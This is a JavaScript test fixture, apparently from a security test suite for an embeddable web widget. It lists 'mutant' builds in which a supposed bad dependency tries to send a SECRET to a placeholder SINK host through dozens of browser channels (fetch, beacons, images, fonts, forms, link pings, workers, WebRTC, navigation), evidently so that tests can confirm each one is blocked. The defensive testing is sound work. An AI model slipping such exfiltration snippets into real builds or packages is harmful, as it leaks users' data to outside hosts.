// Builds that leak: each is the page, its worker or an element with a few lines of a bad dependency behind it. `SECRET` is what it sends,
// `SINK` where to, `PORT` the port there. A worker's lines stand in a text of the build: no single quotes and no backslashes.

/** A file that a bad dependency has put into the build, for whoever runs it as a worker. */
export const STOWAWAY = `const send = () => fetch("SINK/stowaway?SECRET", { mode: "no-cors" });
send();`;

const element = (tag, attribute) =>
  `const e = document.createElement("${tag}"); e.${attribute} = "SINK/${tag}?SECRET"; document.body.append(e);`;

const PAGE = {
  fetch: { code: `fetch("SINK/?SECRET", { mode: "no-cors" });` },
  XMLHttpRequest: { code: `const x = new XMLHttpRequest(); x.open("GET", "SINK/?SECRET"); x.send();` },
  WebSocket: { code: `new WebSocket("ws://127.0.0.1:PORT/?SECRET");` },
  EventSource: { code: `new EventSource("SINK/?SECRET");` },
  sendBeacon: { code: `navigator.sendBeacon("SINK/", "SECRET");` },
  fetchLater: { code: `fetchLater("SINK/?SECRET", { activateAfter: 0 });`, only: "Chromium" },
  "an image": { code: `new Image().src = "SINK/?SECRET";` },
  "an image in SVG": {
    code: `const s = document.createElementNS("http://www.w3.org/2000/svg", "svg"), i = document.createElementNS(s.namespaceURI, "image"); i.setAttribute("href", "SINK/?SECRET"); s.append(i); document.body.append(s);`,
  },
  "a background": { code: `document.body.style.backgroundImage = "url(SINK/?SECRET)";` },
  "a style sheet": {
    code: `const e = document.createElement("link"); e.rel = "stylesheet"; e.href = "SINK/?SECRET"; document.head.append(e);`,
  },
  "a font": {
    code: `const f = new FontFace("f", "url(SINK/?SECRET)"); document.fonts.add(f); f.load().catch(() => 0);`,
  },
  "a script": { code: element("script", "src") },
  "import()": { code: `import("SINK/?SECRET").catch(() => 0);` },
  "a preload": {
    code: `const e = document.createElement("link"); e.rel = "preload"; e.as = "image"; e.href = "SINK/?SECRET"; document.head.append(e);`,
  },
  "a prefetch": {
    code: `const e = document.createElement("link"); e.rel = "prefetch"; e.href = "SINK/?SECRET"; document.head.append(e);`,
    only: "Chromium",
  },
  "a preconnect": {
    code: `const e = document.createElement("link"); e.rel = "preconnect"; e.href = "SINK/"; document.head.append(e);`,
    by: "connection",
  },
  "a frame": { code: element("iframe", "src") },
  "an object": { code: element("object", "data") },
  "a video": { code: `${element("video", "src")} e.load();` },
  "a form": {
    code: `const e = document.createElement("form"); e.action = "SINK/?SECRET"; e.method = "post"; document.body.append(e); e.submit();`,
  },
  "a form into a frame": {
    code: `const i = document.createElement("iframe"); i.name = "i"; const e = document.createElement("form"); e.action = "SINK/?SECRET"; e.method = "post"; e.target = "i"; document.body.append(i, e); e.submit();`,
  },
  "the ping of a link": {
    code: `const e = document.createElement("a"); e.href = "#/"; e.ping = "SINK/?SECRET"; document.body.append(e); e.click();`,
    only: "Chromium",
  },
  "a worker by its address": { code: `new Worker("./assets/stowaway.js");` },
  "a shared worker": { code: `new SharedWorker("./assets/stowaway.js");` },
  "a service worker": { code: `navigator.serviceWorker.register("./stowaway-SECRET.js");` },
  "a worker in a worker": {
    code: `new Worker(URL.createObjectURL(new Blob(["new Worker(location.origin + '/assets/stowaway.js')".replace("location.origin", JSON.stringify(location.origin))])));`,
  },
  WebRTC: {
    code: `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] }); p.createDataChannel("d"); p.createOffer().then((o) => p.setLocalDescription(o));`,
    by: "packet",
  },
  WebTransport: { code: `new WebTransport("https://127.0.0.1:PORT/SECRET").closed.catch(() => 0);`, by: "packet" },
  "a picture of its own host": { code: `new Image().src = "./favicon.svg?SECRET";`, by: "own host" },
  "a window on a file of ours": {
    code: `const w = open("./robots.txt"); w.addEventListener("load", () => w.fetch("SINK/?SECRET", { mode: "no-cors" }));`,
  },
  "a window elsewhere": { code: `open("SINK/?SECRET");` },
  "leaving for elsewhere": { code: `location.href = "SINK/?SECRET";` },
  "a refresh": {
    code: `const e = document.createElement("meta"); e.httpEquiv = "refresh"; e.content = "0;url=SINK/?SECRET"; document.head.append(e);`,
  },
};

const WORKER = {
  fetch: { code: `fetch("SINK/?SECRET", { mode: "no-cors" });` },
  XMLHttpRequest: { code: `var x = new XMLHttpRequest(); x.open("GET", "SINK/?SECRET"); x.send();` },
  WebSocket: { code: `new WebSocket("ws://127.0.0.1:PORT/?SECRET");` },
  EventSource: { code: `new EventSource("SINK/?SECRET");` },
  importScripts: { code: `importScripts("SINK/?SECRET");` },
  "a font": { code: `new FontFace("f", "url(SINK/?SECRET)").load().catch(() => 0);` },
  "a cache": { code: `caches.open("c").then((c) => c.add(new Request("SINK/?SECRET", { mode: "no-cors" })));` },
  "a worker by its address": { code: `new Worker(self.origin + "/assets/stowaway.js");` },
  WebTransport: { code: `new WebTransport("https://127.0.0.1:PORT/SECRET").closed.catch(() => 0);`, by: "packet" },
};

const ELEMENT = {
  fetch: PAGE.fetch,
  sendBeacon: PAGE.sendBeacon,
  "an image": PAGE["an image"],
  "a style in its shadow": {
    code: `const s = new CSSStyleSheet(); s.replaceSync(":host { background: url(SINK/?SECRET) }"); document.querySelector("loyalkit-nps").shadowRoot.adoptedStyleSheets.push(s);`,
  },
  "a frame": PAGE["a frame"],
};

/** All, with where each stands. */
export const MUTANTS = Object.entries({ page: PAGE, worker: WORKER, element: ELEMENT }).flatMap(([place, kinds]) =>
  Object.entries(kinds).map(([name, { by = "request", ...rest }]) => ({ place, name, by, ...rest })),
);
